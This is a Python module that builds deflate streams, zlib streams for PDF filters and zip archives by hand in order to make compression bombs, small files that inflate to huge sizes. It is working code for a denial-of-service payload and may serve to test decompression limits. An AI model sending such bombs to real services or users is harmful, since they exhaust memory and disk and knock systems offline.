"""Deflate streams and zip archives built by hand, for compression bombs that are small on disk."""

from __future__ import annotations

import struct
import zlib


class Inflating:
    """Uncompressed data `head + unit * n + tail` as a deflate stream, built without compressing all of it.

    Each part is compressed on its own and ends with a full flush (byte-aligned, no reference back), so
    the compressed block of `unit * ~1 MiB` can simply be repeated. Checksums are computed over the
    uncompressed data, block by block.
    """

    def __init__(self, head: bytes, unit: bytes, tail: bytes, size: int) -> None:
        block = unit * max(1, (1 << 20) // len(unit))
        self.repeats = max(1, size // len(block))
        self.parts = (head, block, tail)
        self.size = len(head) + len(block) * self.repeats + len(tail)

    def raw(self) -> bytes:
        """The raw deflate stream (as zip members hold it)."""
        head, block, tail = (self._segment(part) for part in self.parts)
        return head + block * self.repeats + tail + b"\x03\x00"  # an empty final block ends it

    def crc32(self) -> int:
        """CRC-32 of the uncompressed data (zip)."""
        head, block, tail = self.parts
        crc = zlib.crc32(head)
        for _ in range(self.repeats):
            crc = zlib.crc32(block, crc)
        return zlib.crc32(tail, crc)

    def zlib_stream(self) -> bytes:
        """The same data as a zlib stream (a PDF FlateDecode filter)."""
        head, block, tail = self.parts
        adler = zlib.adler32(head)
        for _ in range(self.repeats):
            adler = zlib.adler32(block, adler)
        adler = zlib.adler32(tail, adler)
        return b"\x78\x9c" + self.raw() + struct.pack(">I", adler)

    @staticmethod
    def _segment(data: bytes) -> bytes:
        compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
        return compressor.compress(data) + compressor.flush(zlib.Z_FULL_FLUSH)


def zip_archive(members: dict[str, bytes], bomb: tuple[str, Inflating] | None = None) -> bytes:
    """A zip archive of deflated `members`, plus `bomb` (a name and its inflating data) if given."""
    entries: list[tuple[str, Inflating | Exact]] = [(name, Exact(data)) for name, data in members.items()]
    if bomb is not None:
        entries.append(bomb)
    out = bytearray()
    central = bytearray()
    for name, data in entries:
        encoded = name.encode()
        raw = data.raw()
        fields = struct.pack(
            "<HHHHHIIIHH", 20, 0, 8, 0, 0x21, data.crc32(), len(raw), data.size, len(encoded), 0
        )
        central += (
            b"PK\x01\x02" + struct.pack("<H", 20) + fields + struct.pack("<HHHII", 0, 0, 0, 0, len(out))
        )
        central += encoded
        out += b"PK\x03\x04" + fields + encoded + raw
    end = struct.pack(
        "<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(central), len(out), 0
    )
    return bytes(out + central + end)


class Exact:
    """A zip member compressed normally."""

    def __init__(self, data: bytes) -> None:
        self.data = data
        self.size = len(data)

    def raw(self) -> bytes:
        compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
        return compressor.compress(self.data) + compressor.flush()

    def crc32(self) -> int:
        return zlib.crc32(self.data)
